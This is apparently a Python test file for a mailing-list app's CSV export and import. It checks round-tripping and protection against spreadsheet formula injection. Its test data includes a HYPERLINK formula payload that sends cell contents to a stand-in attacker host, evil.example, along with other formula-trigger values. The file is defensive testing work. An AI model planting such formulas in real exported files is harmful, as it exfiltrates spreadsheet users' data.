"""CSV export: a list written out imports back as it is, leavers included, and is safe to open
in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from digest.store import Store
from digest.subscribers import export_csv, import_csv
from digest.subscribers.csv_export import protect_cell
from digest.subscribers.csv_reader import unprotect_cell
from tests.subscribers.helpers import write_file


def test_status_column_carries_leavers_over_and_export_round_trips(
    store: Store, tmp_path: Path
) -> None:
    source = store.ensure_list("old")
    data = (
        "email,name,status,country\n"
        "a@example.org,A,active,NO\nb@example.org,B,unsubscribed,SE\nc@example.org,C,,DK\n"
    )
    import_csv(store, source, write_file(tmp_path, data))
    assert store.count_members(source) == {"active": 2, "unsubscribed": 1}
    out = io.StringIO()
    assert export_csv(store, source, out) == 3
    exported = out.getvalue().splitlines()
    assert exported[0] == "email,name,status,joined,origin,country"
    target = store.ensure_list("new")
    report = import_csv(store, target, write_file(tmp_path, out.getvalue(), "export.csv"))
    assert report.imported == 3 and report.skipped_count == 0
    assert store.count_members(target) == {"active": 2, "unsubscribed": 1}
    b = store.subscriber_by_email("b@example.org")
    assert b is not None and b.attributes == {"country": "SE"}  # no status/joined/origin


# Cells a spreadsheet would run as formulas (issue 13, point 5).
TRICKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 555 0100",
    "-x",
    "@foo",
    "\tx",
    "\rx",
    "'=already quoted",  # a value that itself starts with ' and a trigger
    "''+two quotes",
    "'plain",  # a ' before anything else is not a trigger: left as it is
    "it's = fine",
]


def _tricky_list(store: Store) -> int:
    list_id = store.ensure_list("tricky")
    for number, value in enumerate(TRICKY):
        name = value if not value.startswith(("\t", "\r")) else f"N{number}"  # names hold no tab
        store.upsert_subscriber(
            list_id,
            f"m{number}@example.org",
            name=name,
            attributes={"note": value, "=calc": value},
        )
    store.upsert_subscriber(list_id, "-dash@example.org", name="Dash")
    return list_id


def test_export_protects_formula_cells_and_the_round_trip_is_exact(
    store: Store, tmp_path: Path
) -> None:
    list_id = _tricky_list(store)
    out = io.StringIO()
    assert export_csv(store, list_id, out) == len(TRICKY) + 1
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=calc" in cells and "'-dash@example.org" in cells
    assert "''=already quoted" in cells and "'''+two quotes" in cells
    assert "'plain" in cells and "it's = fine" in cells  # nothing to protect
    exported = write_file(tmp_path, out.getvalue(), "export.csv")
    again = import_csv(store, list_id, exported)  # back into the same list: nothing differs
    assert (again.unchanged, again.updated, again.skipped_count) == (len(TRICKY) + 1, 0, 0)
    target = store.ensure_list("copy")
    report = import_csv(store, target, exported)
    assert (report.imported, report.skipped_count) == (len(TRICKY) + 1, 0)
    for number, value in enumerate(TRICKY):
        member = store.subscriber_by_email(f"m{number}@example.org")
        assert member is not None
        assert member.attributes == {"note": value, "=calc": value}
        assert member.name == (value if not value.startswith(("\t", "\r")) else f"N{number}")
    assert store.count_members(target) == {"active": len(TRICKY) + 1}
    assert store.subscriber_by_email("-dash@example.org") is not None


def test_a_raw_export_is_verbatim(store: Store) -> None:
    list_id = _tricky_list(store)
    out = io.StringIO()
    export_csv(store, list_id, out, raw=True)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][-1] == "=calc"
    assert [row[1] for row in rows[1:4]] == TRICKY[:3]


def test_protect_cell_takes_one_quote_more_than_the_import_takes_off() -> None:
    for value in [*TRICKY, "", "'", "''", "x", "'x=", "'\t"]:
        assert unprotect_cell(protect_cell(value)) == value
